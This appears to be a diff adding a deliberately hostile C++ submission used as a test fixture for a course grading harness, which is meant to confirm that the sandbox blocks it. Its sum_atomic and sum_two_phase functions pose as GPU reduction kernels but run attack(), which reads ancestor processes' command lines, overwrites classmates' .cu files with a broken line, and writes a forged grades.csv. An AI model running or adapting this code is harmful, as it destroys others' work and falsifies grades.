@@ -1,0 +1,121 @@
+// Rewrites its classmates' work: finds the class folder and --out on the batch's
+// command line (/proc/<ancestor>/cmdline), then puts a broken kernel in every other
+// student's file, both there and in their work folders beside its own, and a
+// forged grades.csv in --out.  Exercise 07; graded by tests/kit/batch-hostile.sh
+// and tests/kit/batch-unprivileged.sh, which check that nothing of it lands.
+#include <cstddef>
+#include <cstdio>
+#include <cstring>
+#include <dirent.h>
+#include <fcntl.h>
+#include <string>
+#include <sys/stat.h>
+#include <unistd.h>
+#include <vector>
+
+static void spoil(const std::string &file)
+{
+    if (FILE *f = fopen(file.c_str(), "w")) {
+        fputs("#error \"spoiled by a classmate\"\n", f);
+        fclose(f);
+    }
+}
+
+static void spoil_folder(const std::string &dir, const char *me)
+{
+    DIR *d = opendir(dir.c_str());
+    if (!d)
+        return;
+    while (struct dirent *e = readdir(d)) {
+        std::string name = e->d_name, path = dir + "/" + name;
+        if (name[0] == '.' || name.find(me) != std::string::npos)
+            continue;
+        struct stat st;
+        if (stat(path.c_str(), &st) != 0)
+            continue;
+        if (S_ISDIR(st.st_mode))
+            spoil(path + "/reduce.cu");
+        else if (name.size() > 3 && name.compare(name.size() - 3, 3, ".cu") == 0)
+            spoil(path);
+    }
+    closedir(d);
+}
+
+static std::vector<std::string> args_of(int pid)
+{
+    std::vector<std::string> v;
+    char name[64], buf[16384];
+    snprintf(name, sizeof name, "/proc/%d/cmdline", pid);
+    int fd = open(name, O_RDONLY);
+    if (fd < 0)
+        return v;
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    close(fd);
+    for (ssize_t i = 0; i < n; i += (ssize_t)strlen(buf + i) + 1)
+        v.push_back(buf + i);
+    return v;
+}
+
+static int parent_of(int pid)
+{
+    char name[64], buf[512];
+    snprintf(name, sizeof name, "/proc/%d/stat", pid);
+    FILE *f = fopen(name, "r");
+    if (!f)
+        return 0;
+    int pp = 0;
+    if (fgets(buf, sizeof buf, f)) {
+        const char *r = strrchr(buf, ')');
+        char st;
+        if (r)
+            sscanf(r + 1, " %c %d", &st, &pp);
+    }
+    fclose(f);
+    return pp;
+}
+
+static void attack()
+{
+    static bool done;
+    if (done)
+        return;
+    done = true;
+    const char *me = "attacker";
+    // The batch's own command line: up the ancestors, and PID 1 in a namespace.
+    std::vector<int> pids = { 1 };
+    for (int p = getppid(); p > 1 && pids.size() < 12; p = parent_of(p))
+        pids.push_back(p);
+    for (int p : pids) {
+        std::vector<std::string> a = args_of(p);
+        for (size_t i = 0; i < a.size(); i++) {
+            if (a[i] == "--out" && i + 1 < a.size()) {
+                if (FILE *f = fopen((a[i + 1] + "/grades.csv").c_str(), "w")) {
+                    fputs("id,score,max\nattacker,100,20\n", f);
+                    fclose(f);
+                }
+            } else if (a[i][0] == '/') {
+                spoil_folder(a[i], me);
+            }
+        }
+    }
+    char cwd[4096];
+    if (getcwd(cwd, sizeof cwd)) {  // the other work folders, beside this one
+        std::string parent = cwd;
+        parent = parent.substr(0, parent.rfind('/'));
+        spoil_folder(parent, me);
+    }
+}
+
+template <typename T>
+void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
+{
+    (void)d_input, (void)d_result, (void)n, (void)block;
+    attack();
+}
+
+template <typename T>
+void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
+{
+    (void)d_input, (void)d_result, (void)n, (void)block;
+    attack();
+}
